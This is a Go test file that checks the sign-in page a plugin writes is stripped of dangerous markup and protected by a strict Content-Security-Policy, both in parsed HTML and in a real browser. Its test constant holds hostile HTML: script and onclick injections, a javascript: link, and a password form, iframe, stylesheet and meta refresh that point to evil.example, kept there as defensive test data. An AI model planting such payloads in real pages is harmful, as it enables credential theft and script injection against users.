package coretest_test

import (
	"bytes"
	_ "embed"
	"image/color"
	"image/png"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"github.com/souk-market/souk/core"
	"github.com/souk-market/souk/core/coretest"
	"github.com/souk-market/souk/core/coretest/chromium"
	"github.com/souk-market/souk/core/plugin"
)

//go:generate go run ../../sdk/toolchain/build core/coretest/guests

//go:embed guests/page/guest.wasm
var pageGuest []byte

// red is a picture of one red point.
const red = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg=="

// ownPage is what a plugin shows of its own: some of it may stay, and around it is
// all that must not.
const ownPage = `<h2 onclick="alert(1)">Welcome <em>back</em></h2><script>alert("ran")</script><style>main{display:none}</style>` +
	`<p style="position:fixed;inset:0" class="button" id="transaction">A word <a href="https://example.com/help">to remember</a>,` +
	` a <a href="javascript:alert(1)">trick</a></p><souk-form></souk-form>` +
	`<form action="https://evil.example/"><input type="password" name="stolen"><button>Continue</button></form>` +
	`<iframe src="https://evil.example/"></iframe><img src="https://evil.example/x.png" alt="gone"><img src="` + red + `" width="80" height="80" alt="red">` +
	`<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><footer>Below</footer>`

// ownPageStart runs a server whose sign-in page is the plugin's own.
func ownPageStart(t *testing.T) *coretest.Server {
	return coretest.Start(t, func(c *core.Config) {
		quick(c)
		spec := plugin.DefaultSpec()
		spec.Name, spec.Wasm, spec.Config = "page", pageGuest, map[string]any{"html": ownPage}
		c.Plugin = append([]plugin.Spec{spec}, c.Plugin...)
	})
}

// TestPageOfAPlugin asks the server for a page that a plugin wrote: what may harm is
// gone, the core's form stands where the plugin has put it, and it signs people in.
func TestPageOfAPlugin(t *testing.T) {
	t.Parallel()
	s := ownPageStart(t)
	r := deviceSignIn("carol@example.com")
	p := open(t, s, r.query())
	doc, err := html.Parse(bytes.NewReader(p.body))
	if err != nil {
		t.Fatal(err)
	}
	var order []string // what a person meets, from above
	main := 0
	for n := range doc.Descendants() {
		switch {
		case n.Type == html.TextNode && strings.Contains(n.Data, "Welcome"):
			order = append(order, "above")
		case n.Type == html.TextNode && strings.Contains(n.Data, "Below"):
			order = append(order, "below")
		case n.Type != html.ElementNode:
			continue
		}
		switch n.Data {
		case "main":
			main++
		case "form":
			order = append(order, "form")
			if n.Parent.Data != "main" {
				t.Errorf("the form stands inside of %s", n.Parent.Data)
			}
		case "script", "iframe", "link", "base", "embed", "object":
			t.Errorf("the page has an element %s", n.Data)
		case "style":
			if n.Parent.Data != "head" {
				t.Error("the page has a style of the plugin")
			}
		case "meta":
			if slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "http-equiv" }) {
				t.Error("the page leads away by itself")
			}
		}
		for _, a := range n.Attr {
			remote := strings.Contains(a.Val, "//") && a.Val != "https://example.com/help"
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "id" || remote || strings.HasPrefix(a.Val, "javascript:") {
				t.Errorf("an element %s has %s=%q", n.Data, a.Key, a.Val)
			}
		}
	}
	if !slices.Equal(order, []string{"above", "form", "below"}) || main != 1 {
		t.Errorf("from above there are %v in %d mains, want the form between what is above and below it", order, main)
	}
	body := string(p.body)
	for _, want := range []string{`<em>back</em>`, `href="https://example.com/help"`, red, "The word"} {
		if !strings.Contains(body, want) {
			t.Errorf("the page has no %s:\n%s", want, body)
		}
	}
	for _, bad := range []string{"evil.example", "alert(", "stolen", "display:none"} {
		if strings.Contains(body, bad) {
			t.Errorf("the page has %q:\n%s", bad, body)
		}
	}
	if p.kinds["field_password"] != "password" || p.action != "/oauth/authorize" {
		t.Errorf("the form goes to %q with %v", p.action, p.kinds)
	}
	if csp := p.header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "img-src data:") {
		t.Errorf("Content-Security-Policy is %q", csp)
	}

	if again := p.submit(t, "", "wrong").page(t, p.at); again.action == "" || !strings.Contains(string(again.body), "<em>back</em>") {
		t.Errorf("a wrong word shows\n%s", again.body)
	}
	q := p.submit(t, "", "wonderland").led(t, deviceRedirect)
	if q.Get("code") == "" || q.Get("state") != r.state {
		t.Fatalf("the right word led to %v, want a code and the state of the device", q)
	}
	token(t, s, r.redemption(q.Get("code"))).granted(t, "the plugin's own page")
}

// TestPageOfAPluginInABrowser looks at the same page with a real browser: nothing
// runs or is fetched, and the picture and the form are seen.
func TestPageOfAPluginInABrowser(t *testing.T) {
	ctx := chromium.Start(t)
	s := ownPageStart(t)
	what := watch(t, ctx)
	if err := chromedp.Do(ctx, chromedp.Navigate(authorizeURL(s, deviceSignIn("carol@example.com").query()))); err != nil {
		t.Fatalf("open the page: %v", err)
	}
	text, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS("main")))
	if err != nil {
		t.Fatal(err)
	}
	above, form, below := strings.Index(text, "Welcome back"), strings.Index(text, "The word"), strings.Index(text, "Below")
	if above < 0 || form < above || below < form {
		t.Errorf("a person reads\n%s", text)
	}
	seen, err := chromedp.Run(ctx, chromedp.Evaluate[string](`[document.forms.length, document.scripts.length, document.querySelectorAll("iframe, [style], [id]").length,
		[...document.images].map(i => i.alt + i.naturalWidth).join("+"), performance.getEntriesByType("resource").filter(e => !e.name.startsWith("data:")).length].join(" ")`))
	if err != nil || seen != "1 0 0 gone0+red1 0" {
		t.Errorf("the browser has %q, %v, want one form, no script, nothing styled, one picture of two, and nothing fetched", seen, err)
	}
	shot, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Fatal(err)
	}
	picture, err := png.Decode(bytes.NewReader(shot))
	if err != nil {
		t.Fatal(err)
	}
	points := 0
	bounds := picture.Bounds()
	for y := bounds.Min.Y; y < bounds.Max.Y; y++ {
		for x := bounds.Min.X; x < bounds.Max.X; x++ {
			if color.RGBAModel.Convert(picture.At(x, y)) == (color.RGBA{R: 255, A: 255}) {
				points++
			}
		}
	}
	if points < 40*40 {
		t.Errorf("%d points of the screenshot are red: the picture of 80 × 80 is not seen", points)
	}
	if v := what.violations(); len(v) > 0 {
		t.Errorf("the browser complains: %v", v)
	}
}
